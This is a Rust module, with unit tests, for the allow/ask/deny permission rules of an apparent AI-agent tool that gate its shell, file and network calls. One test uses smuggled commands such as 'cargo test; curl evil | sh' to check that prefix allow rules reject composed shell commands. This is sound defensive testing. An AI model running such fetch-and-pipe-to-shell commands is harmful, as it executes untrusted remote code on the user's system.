//! Permission rules: allow / ask / deny, evaluated inside the grant. They can only narrow what the grant allows.
//!
//! Precedence is deny → ask → allow → the mode's default (seed 000): a matching deny rule wins over everything, an
//! ask rule over allow rules. Rules never widen authority: [`combine`] applies them only to a call the grant already
//! authorised, and a grant denial is final.

use crate::decide::{plain_argv, Decision};
use crate::path::path_within;

/// What a rule (or a hook, or the mode) says about a call. Ordered so that combining takes the maximum.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Verdict {
    /// Run it.
    Allow,
    /// Ask the user first (headless runs treat this as a refusal, never as consent).
    Ask,
    /// Refuse it.
    Deny,
}

/// One rule. Each present field must match; a rule with no fields is refused by the manifest parser.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Rule {
    /// Tool name, with `*` (any run of characters) and `?` (one character) wildcards.
    pub tool: Option<String>,
    /// Absolute path prefix, matched at a component boundary against the call's resolved path.
    pub path_prefix: Option<String>,
    /// Command prefix, matched at a word boundary against the call's command line.
    pub command_prefix: Option<String>,
    /// Exact URL host.
    pub host: Option<String>,
}

/// The facts of a call that rules look at.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct CallFacts {
    /// The tool instance name.
    pub tool: String,
    /// The resolved absolute path the call names, if any.
    pub path: Option<String>,
    /// The command line, for bash.
    pub command: Option<String>,
    /// The URL host the call reaches, if any.
    pub host: Option<String>,
}

/// Glob match with `*` and `?` (both may match `/`).
pub fn wildcard_match(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && (p[pi] == '?' || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == '*' {
            star = Some((pi, ti));
            pi += 1;
        } else if let Some((sp, st)) = star {
            pi = sp + 1;
            ti = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == '*')
}

impl Rule {
    /// Does this rule match the call? `allow` marks an allow rule: a command allow rule never matches a composed
    /// shell command (pipes, `;`, `$`, redirects …), because a prefix allow is not a shell sandbox.
    pub fn matches(&self, facts: &CallFacts, allow: bool) -> bool {
        if let Some(t) = &self.tool {
            if !wildcard_match(t, &facts.tool) {
                return false;
            }
        }
        if let Some(prefix) = &self.path_prefix {
            let root = match prefix.trim_end_matches('/') {
                "" => "/",
                trimmed => trimmed,
            };
            if !facts.path.as_deref().is_some_and(|p| path_within(root, p)) {
                return false;
            }
        }
        if let Some(prefix) = &self.command_prefix {
            let Some(cmd) = &facts.command else {
                return false;
            };
            if allow && plain_argv(cmd).is_none() {
                return false;
            }
            let cmd = cmd.trim_start();
            let prefix = prefix.trim();
            let fits = cmd == prefix
                || cmd
                    .strip_prefix(prefix)
                    .is_some_and(|rest| rest.starts_with([' ', '\t']));
            if !fits {
                return false;
            }
        }
        if let Some(host) = &self.host {
            if facts.host.as_deref() != Some(host.as_str()) {
                return false;
            }
        }
        true
    }
}

/// The rules of one agent, by action.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Permissions {
    /// `[[permissions.allow_rules]]`.
    pub allow: Vec<Rule>,
    /// `[[permissions.ask_rules]]`.
    pub ask: Vec<Rule>,
    /// `[[permissions.deny_rules]]`.
    pub deny: Vec<Rule>,
}

impl Permissions {
    /// The rules' verdict for a call: deny → ask → allow → `default`.
    pub fn evaluate(&self, facts: &CallFacts, default: Verdict) -> Verdict {
        self.judge(facts, default, &[]).verdict
    }

    /// The rules' verdict for a call and what gave it: the first matching deny rule, else the first matching ask
    /// rule — answered by a remembered "always" answer for this very call if `approvals` holds one — else the
    /// first matching allow rule, else `default`. An approval only ever answers an ask rule: it never overrides a
    /// deny rule, and it is not consulted when no ask rule matched.
    pub fn judge(
        &self,
        facts: &CallFacts,
        default: Verdict,
        approvals: &[Approval],
    ) -> RulesVerdict {
        let first =
            |rules: &[Rule], allow: bool| rules.iter().position(|r| r.matches(facts, allow));
        if let Some(index) = first(&self.deny, false) {
            return RulesVerdict::by(Verdict::Deny, RuleKind::Deny, index, None);
        }
        if let Some(index) = first(&self.ask, false) {
            let approval = approvals.iter().position(|a| a.covers(facts));
            let verdict = if approval.is_some() {
                Verdict::Allow
            } else {
                Verdict::Ask
            };
            return RulesVerdict::by(verdict, RuleKind::Ask, index, approval);
        }
        if let Some(index) = first(&self.allow, true) {
            return RulesVerdict::by(Verdict::Allow, RuleKind::Allow, index, None);
        }
        RulesVerdict {
            verdict: default,
            rule: None,
            approval: None,
        }
    }
}

/// Which list a rule is in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RuleKind {
    /// `[[permissions.allow_rules]]`.
    Allow,
    /// `[[permissions.ask_rules]]`.
    Ask,
    /// `[[permissions.deny_rules]]`.
    Deny,
}

impl RuleKind {
    /// The manifest key of the list.
    pub fn key(self) -> &'static str {
        match self {
            RuleKind::Allow => "permissions.allow_rules",
            RuleKind::Ask => "permissions.ask_rules",
            RuleKind::Deny => "permissions.deny_rules",
        }
    }
}

/// The rules' verdict for one call, with what gave it (for the turn loop's messages and `loom explain`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RulesVerdict {
    /// The verdict.
    pub verdict: Verdict,
    /// The rule that matched (its list and index in it); `None`: no rule matched, the default applied.
    pub rule: Option<(RuleKind, usize)>,
    /// The remembered "always" answer (its index in the approvals passed) that answered the ask rule.
    pub approval: Option<usize>,
}

impl RulesVerdict {
    fn by(verdict: Verdict, kind: RuleKind, index: usize, approval: Option<usize>) -> Self {
        RulesVerdict {
            verdict,
            rule: Some((kind, index)),
            approval,
        }
    }

    /// True when an ask rule matched, so the user's answer may be remembered ("always"). Asks of the doom-loop
    /// guard are never rememberable: they are about this run, not about the call.
    pub fn rememberable(&self) -> bool {
        matches!(self.rule, Some((RuleKind::Ask, _)))
    }
}

/// A remembered "always" answer to an ask: this tool, with exactly this subject, runs without asking again (as
/// long as the grant still allows it and no deny rule matches). Deliberately exact — the command line, the path or
/// the host the user saw — so approving `git push origin main` approves nothing else.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Approval {
    /// The tool instance.
    pub tool: String,
    /// What the call was about; `None`: the tool's calls carry none of a command, a path or a host, so the answer
    /// covers every call of the tool the ask rule matches.
    pub subject: Option<Subject>,
}

/// What an [`Approval`] is about.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Subject {
    /// A command line (compared after trimming surrounding whitespace).
    Command(String),
    /// A resolved absolute path.
    Path(String),
    /// A URL host.
    Host(String),
}

impl std::fmt::Display for Subject {
    /// `command "git push"`, `path /w/a`, `host example.com`: as `loom explain` and `loom permissions` show it.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Subject::Command(c) => write!(f, "command {c:?}"),
            Subject::Path(p) => write!(f, "path {p}"),
            Subject::Host(h) => write!(f, "host {h}"),
        }
    }
}

impl Approval {
    /// The approval that answering "always" to the call with these facts records.
    pub fn for_call(facts: &CallFacts) -> Approval {
        Approval {
            tool: facts.tool.clone(),
            subject: subject_of(facts),
        }
    }

    /// Does this approval answer an ask about the call with these facts?
    pub fn covers(&self, facts: &CallFacts) -> bool {
        self.tool == facts.tool && self.subject == subject_of(facts)
    }
}

fn subject_of(facts: &CallFacts) -> Option<Subject> {
    if let Some(c) = &facts.command {
        Some(Subject::Command(c.trim().to_string()))
    } else if let Some(p) = &facts.path {
        Some(Subject::Path(p.clone()))
    } else {
        facts.host.clone().map(Subject::Host)
    }
}

/// The final verdict for a call: the grant's decision first (a denial is final), then the strictest of the rules'
/// verdict and any further narrowing verdicts (hooks, plan mode, the doom-loop guard). Nothing here can turn a
/// grant denial into anything else.
pub fn combine(grant: &Decision, rules: Verdict, narrowing: &[Verdict]) -> Verdict {
    if !grant.is_allowed() {
        return Verdict::Deny;
    }
    narrowing.iter().copied().fold(rules, Verdict::max)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decide::{Authorization, Denial, Exec};

    fn facts(tool: &str, command: Option<&str>, path: Option<&str>) -> CallFacts {
        CallFacts {
            tool: tool.into(),
            command: command.map(Into::into),
            path: path.map(Into::into),
            host: None,
        }
    }

    fn cmd_rule(prefix: &str) -> Rule {
        Rule {
            tool: Some("bash".into()),
            command_prefix: Some(prefix.into()),
            ..Default::default()
        }
    }

    #[test]
    fn wildcards() {
        assert!(wildcard_match("*", "anything"));
        assert!(wildcard_match("read_*", "read_file"));
        assert!(wildcard_match("b?sh", "bash"));
        assert!(!wildcard_match("b?sh", "baash"));
        assert!(wildcard_match("*_file", "write_file"));
        assert!(!wildcard_match("read_*", "write_file"));
    }

    #[test]
    fn deny_then_ask_then_allow_then_default() {
        let rules = Permissions {
            allow: vec![cmd_rule("cargo test"), cmd_rule("git push")],
            ask: vec![cmd_rule("git push")],
            deny: vec![cmd_rule("git push --force")],
        };
        let v = |c: &str| rules.evaluate(&facts("bash", Some(c), None), Verdict::Ask);
        assert_eq!(v("cargo test -p x"), Verdict::Allow);
        assert_eq!(v("git push origin"), Verdict::Ask);
        assert_eq!(v("git push --force"), Verdict::Deny);
        assert_eq!(v("ls"), Verdict::Ask);
        assert_eq!(
            v("cargo testing"),
            Verdict::Ask,
            "prefix matches at word boundaries only"
        );
    }

    #[test]
    fn command_allow_rules_refuse_composed_commands() {
        let rules = Permissions {
            allow: vec![cmd_rule("cargo test")],
            ..Default::default()
        };
        let v = |c: &str| rules.evaluate(&facts("bash", Some(c), None), Verdict::Ask);
        assert_eq!(v("cargo test; curl evil | sh"), Verdict::Ask);
        assert_eq!(v("cargo test $(curl evil)"), Verdict::Ask);
        assert_eq!(v("cargo test"), Verdict::Allow);
    }

    #[test]
    fn path_prefixes_match_at_component_boundaries() {
        let rules = Permissions {
            deny: vec![Rule {
                path_prefix: Some("/w/secrets".into()),
                ..Default::default()
            }],
            ..Default::default()
        };
        let v = |p: &str| rules.evaluate(&facts("read_file", None, Some(p)), Verdict::Allow);
        assert_eq!(v("/w/secrets/key"), Verdict::Deny);
        assert_eq!(v("/w/secretsother"), Verdict::Allow);
    }

    #[test]
    fn judge_names_the_rule_and_an_approval_answers_only_its_own_ask() {
        let rules = Permissions {
            allow: vec![cmd_rule("git")],
            ask: vec![cmd_rule("git push")],
            deny: vec![cmd_rule("git push --force")],
        };
        let push = facts("bash", Some("git push origin main"), None);
        let v = rules.judge(&push, Verdict::Allow, &[]);
        assert_eq!(v.verdict, Verdict::Ask);
        assert_eq!(v.rule, Some((RuleKind::Ask, 0)));
        assert!(v.rememberable());
        let always = Approval::for_call(&push);
        let approvals = [
            Approval::for_call(&facts("bash", Some("ls"), None)),
            always.clone(),
        ];
        let v = rules.judge(&push, Verdict::Allow, &approvals);
        assert_eq!((v.verdict, v.approval), (Verdict::Allow, Some(1)));
        // the same command with surrounding whitespace is the same call; any other command is not
        let spaced = facts("bash", Some("  git push origin main "), None);
        assert_eq!(
            rules.judge(&spaced, Verdict::Allow, &approvals).verdict,
            Verdict::Allow
        );
        let other = facts("bash", Some("git push origin dev"), None);
        assert_eq!(
            rules.judge(&other, Verdict::Allow, &approvals).verdict,
            Verdict::Ask
        );
        // another tool with the same command is not covered
        let renamed = facts("sh2", Some("git push origin main"), None);
        assert!(!always.covers(&renamed));
        // an approval never answers a deny rule, even one recorded for that exact call
        let force = facts("bash", Some("git push --force"), None);
        let v = rules.judge(&force, Verdict::Allow, &[Approval::for_call(&force)]);
        assert_eq!(
            (v.verdict, v.rule),
            (Verdict::Deny, Some((RuleKind::Deny, 0)))
        );
        assert!(!v.rememberable());
        // the allow rule and the default are named as such
        let status = facts("bash", Some("git status"), None);
        assert_eq!(
            rules.judge(&status, Verdict::Ask, &[]).rule,
            Some((RuleKind::Allow, 0))
        );
        let ls = facts("bash", Some("ls"), None);
        let v = rules.judge(&ls, Verdict::Ask, &approvals);
        assert_eq!((v.verdict, v.rule, v.approval), (Verdict::Ask, None, None));
    }

    #[test]
    fn an_approval_is_for_the_subject_the_user_saw() {
        let read = facts("read_file", None, Some("/w/a"));
        let a = Approval::for_call(&read);
        assert_eq!(a.subject, Some(Subject::Path("/w/a".into())));
        assert!(!a.covers(&facts("read_file", None, Some("/w/b"))));
        let mut fetch = facts("fetch", None, None);
        fetch.host = Some("example.com".into());
        assert_eq!(
            Approval::for_call(&fetch).subject,
            Some(Subject::Host("example.com".into()))
        );
        // a call with no subject at all: the answer covers the tool
        let bare = Approval::for_call(&facts("notes", None, None));
        assert_eq!(bare.subject, None);
        assert!(bare.covers(&facts("notes", None, None)));
        assert!(!bare.covers(&facts("notes", None, Some("/w/a"))));
    }

    #[test]
    fn rules_never_widen_a_grant_denial() {
        let denied = Decision::Deny(Denial {
            tool: "bash".into(),
            reason: "no".into(),
        });
        assert_eq!(combine(&denied, Verdict::Allow, &[]), Verdict::Deny);
        let allowed = Decision::Allow(Authorization {
            row: None,
            exec: Exec::Unconfined,
        });
        assert_eq!(
            combine(&allowed, Verdict::Allow, &[Verdict::Ask]),
            Verdict::Ask
        );
        assert_eq!(
            combine(&allowed, Verdict::Ask, &[Verdict::Allow]),
            Verdict::Ask,
            "a hook cannot approve past an ask"
        );
    }
}
